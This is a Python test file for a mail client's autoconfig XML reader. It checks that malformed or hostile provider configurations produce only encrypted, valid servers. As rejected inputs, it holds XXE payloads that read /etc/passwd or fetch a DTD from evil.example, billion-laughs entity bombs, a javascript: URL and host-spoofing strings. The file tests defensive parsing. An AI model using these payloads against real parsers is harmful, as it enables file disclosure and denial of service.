"""What a provider publishes about its servers, and what somebody hostile does: nothing but usable servers come out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.domain.mail import autoconfig
from desktop.domain.mail.autoconfig import LIMIT_BYTES, Config, Fault
from desktop.domain.mail.found_server import FoundServer, SignIn, domain_of, filled, host_name, is_within
from desktop.domain.mail.mail_account import Endpoint, Security
from tests.domain.mail.configs import config, server, smtp

DOMAIN = "firm.example"


def read(*blocks: str) -> Config:
    return autoconfig.read(config(*blocks), DOMAIN)


def test_servers_in_their_order_with_all_that_is_said_of_them() -> None:
    found = autoconfig.read(
        config(
            server("pop3", "pop.firm.example", 995),
            server(methods=("OAuth2", "password-cleartext", "GSSAPI")),
            server(host="Backup.Firm.Example.", port=" 143 ", security="STARTTLS", user="%EMAILLOCALPART%"),
            smtp(),
            more='<documentation url="https://help.firm.example/imap"><descr>How</descr></documentation>',
        ),
        DOMAIN,
    )

    assert found == Config(
        provider="Firm Mail",
        incoming=(
            FoundServer("imap.firm.example", 993, Security.TLS, "%EMAILADDRESS%", (SignIn.BROWSER, SignIn.PASSWORD)),
            FoundServer("backup.firm.example", 143, Security.STARTTLS, "%EMAILLOCALPART%"),
        ),
        outgoing=(FoundServer("smtp.firm.example", 465, Security.TLS),),
        help_url="https://help.firm.example/imap",
    )
    assert found.incoming[1].endpoint("jan@firm.example") == Endpoint(
        "backup.firm.example", 143, Security.STARTTLS, "jan"
    )


def test_c42_settings_without_encryption_are_refused_and_said_so() -> None:
    found = read(server(security="plain", port=143), smtp())

    assert found.incoming == ()
    assert found.plain_only
    assert not read(server(security="plain"), server()).plain_only


@pytest.mark.parametrize(
    "block",
    [
        server(host=""),
        server(host="localhost"),
        server(host="127.0.0.1"),
        server(host="mail.0x7f"),
        server(host="[::1]"),
        server(host="a..firm.example"),
        server(host="-a.firm.example"),
        server(host="imap firm.example"),
        server(host="imap.firm.example/@evil.example"),
        server(host="jan@imap.firm.example"),
        server(host="x" * 64 + ".example"),
        server(host="x." * 130 + "example"),
        server(host="imap.%EMAILLOCALPART%.example"),
        server(port=0),
        server(port=65536),
        server(port=-1),
        server(port="9 93"),
        server(port="٩٩٣"),
        server(port=""),
        server(security=""),
        server(security="plain"),
        server(security="TLSv1"),
        server(user=""),
        server(user="%REALNAME%"),
        server(user="jan&#10;x"),
        server(user="u" * 300),
        server(methods=()),
        server(methods=("GSSAPI", "none", "client-IP-address", "")),
        "<incomingServer type='imap'/>",
    ],
)
def test_a_block_that_makes_no_sense_is_left_out_and_the_next_is_taken(block: str) -> None:
    assert read(block, server(host="next.firm.example")).incoming == (
        FoundServer("next.firm.example", 993, Security.TLS),
    )


def test_the_domain_may_stand_in_a_host_name() -> None:
    assert read(server(host="imap.%EMAILDOMAIN%")).incoming[0].host == "imap.firm.example"


def test_what_stands_in_an_address_is_no_placeholder() -> None:
    assert filled("%EMAILLOCALPART%+%EMAILDOMAIN%", "%EMAILDOMAIN%@x.example") == "%EMAILDOMAIN%+x.example"
    assert filled("user%firm", "a@b.example") == "user%firm"


BOMB = '<!DOCTYPE b [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY lol0 'lol'>"
    + "".join(f"<!ENTITY lol{n} '{f'&lol{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)


@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE clientConfig>",
        BOMB,
        LAUGHS,
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    ],
    ids=["doctype", "bomb", "billion laughs", "external subset", "external entity", "parameter entity"],
)
def test_c40_a_document_type_is_refused_whatever_is_in_it(prolog: str) -> None:
    xml = config(server(user="&lol9;") if "lol9" in prolog else server(), prolog=prolog)

    assert autoconfig.read(xml, DOMAIN) == Config(fault=Fault.DOCUMENT_TYPE)
    # and in another encoding, where the octets look different
    as_utf16 = xml.decode().replace("UTF-8", "UTF-16").encode("utf-16")
    assert autoconfig.read(as_utf16, DOMAIN) == Config(fault=Fault.DOCUMENT_TYPE)


@pytest.mark.parametrize(
    ("xml", "fault"),
    [
        (b"", Fault.NOT_XML),
        (b"<html><body>Not here", Fault.NOT_XML),
        (b"<html><body>Not here</body></html>", Fault.NO_PROVIDER),
        (b"<clientConfig/>", Fault.NO_PROVIDER),
        (b"\x00\x01\x02", Fault.NOT_XML),
        (b"<a>&undeclared;</a>", Fault.NOT_XML),
        (b'<?xml version="1.0" encoding="utf-7"?><clientConfig/>', Fault.NOT_XML),
        (b'<?xml version="1.0" encoding="unicode_escape"?><clientConfig/>', Fault.NOT_XML),
        (b"<a>" * 100_000, Fault.TOO_LARGE),
        (b"<a>" * 50 + b"</a>" * 50, Fault.TOO_LARGE),
        (b"<r>" + b"<a/>" * 5000 + b"</r>", Fault.TOO_LARGE),
        (b"x" * (LIMIT_BYTES + 1), Fault.TOO_LARGE),
    ],
)
def test_what_is_no_configuration_is_nothing(xml: bytes, fault: Fault) -> None:
    assert autoconfig.read(xml, DOMAIN) == Config(fault=fault)


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252", "utf-16"])
def test_older_encodings_are_read(encoding: str) -> None:
    text = config(name="Früh & Co".replace("&", "&amp;")).decode().replace("UTF-8", encoding)

    assert autoconfig.read(text.encode(encoding), DOMAIN).provider == "Früh & Co"


@pytest.mark.parametrize(
    "url",
    [
        "http://help.firm.example/",
        "javascript:alert(1)",
        "https://user@help.firm.example/",
        "https://127.0.0.1/",
        "https://help.firm.example/a b",
        "https://help.firm.example/" + "x" * 600,
        "https://[",
        "file:///etc/passwd",
        "",
    ],
)
def test_a_help_page_is_a_plain_one_of_the_web(url: str) -> None:
    assert autoconfig.read(config(more=f'<documentation url="{url}"/>'), DOMAIN).help_url == ""


def test_a_provider_s_name_is_one_short_line() -> None:
    found = autoconfig.read(config(name="A\u202eB\n\tC" + "x" * 200), DOMAIN)

    assert found.provider.startswith("A B C")
    assert len(found.provider) <= 60


@given(st.binary(max_size=400))
def test_any_octets_are_read_without_an_error(octets: bytes) -> None:
    assert autoconfig.read(octets, DOMAIN).incoming == ()


_TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="<&"), max_size=30)
_BLOCKS = st.builds(
    server,
    type_=st.sampled_from(("imap", "smtp", "pop3")),
    host=_TEXTS | st.just("imap.firm.example"),
    port=st.integers(-10, 70_000),
    security=st.sampled_from(("SSL", "STARTTLS", "plain", "ssl", "")),
    user=_TEXTS | st.just("%EMAILADDRESS%"),
    methods=st.tuples(st.sampled_from(("OAuth2", "plain", "none", "password-encrypted"))),
)


@given(st.lists(_BLOCKS, max_size=5), st.randoms(use_true_random=False))
def test_c42_whatever_comes_out_is_encrypted_and_can_be_dialled(blocks: list[str], chance: object) -> None:
    xml = bytearray(config(*blocks))
    for _ in range(chance.randint(0, 3)):  # type: ignore[attr-defined]
        xml[chance.randrange(len(xml))] = chance.randrange(256)  # type: ignore[attr-defined]

    found = autoconfig.read(bytes(xml), DOMAIN)

    for one in (*found.incoming, *found.outgoing):
        assert one.security in (Security.TLS, Security.STARTTLS)
        assert 0 < one.port < 65536
        assert host_name(one.host) == one.host != ""
        assert one.sign_in
        assert one.endpoint("jan@firm.example").user.isprintable()


@pytest.mark.parametrize(
    ("address", "domain"),
    [
        ("jan@firm.example", "firm.example"),
        (" Jan@Firm.Example ", "firm.example"),
        ("иван@почта.рф", "xn--80a1acny.xn--p1ai"),
        ('"a@b"@firm.example', "firm.example"),
        ("jan@localhost", ""),
        ("jan@[127.0.0.1]", ""),
        ("jan@10.0.0.1", ""),
        ("jan@", ""),
        ("jan", ""),
        ("jan@firm..example", ""),
        ("jan@\udcff.example", ""),
    ],
)
def test_the_domain_of_an_address(address: str, domain: str) -> None:
    assert domain_of(address) == domain


def test_a_domain_holds_what_lies_below_it_and_nothing_that_looks_like_it() -> None:
    assert is_within("imap.firm.example", DOMAIN)
    assert is_within(DOMAIN, DOMAIN)
    assert not is_within("notfirm.example", DOMAIN)
    assert not is_within("firm.example.evil.example", DOMAIN)
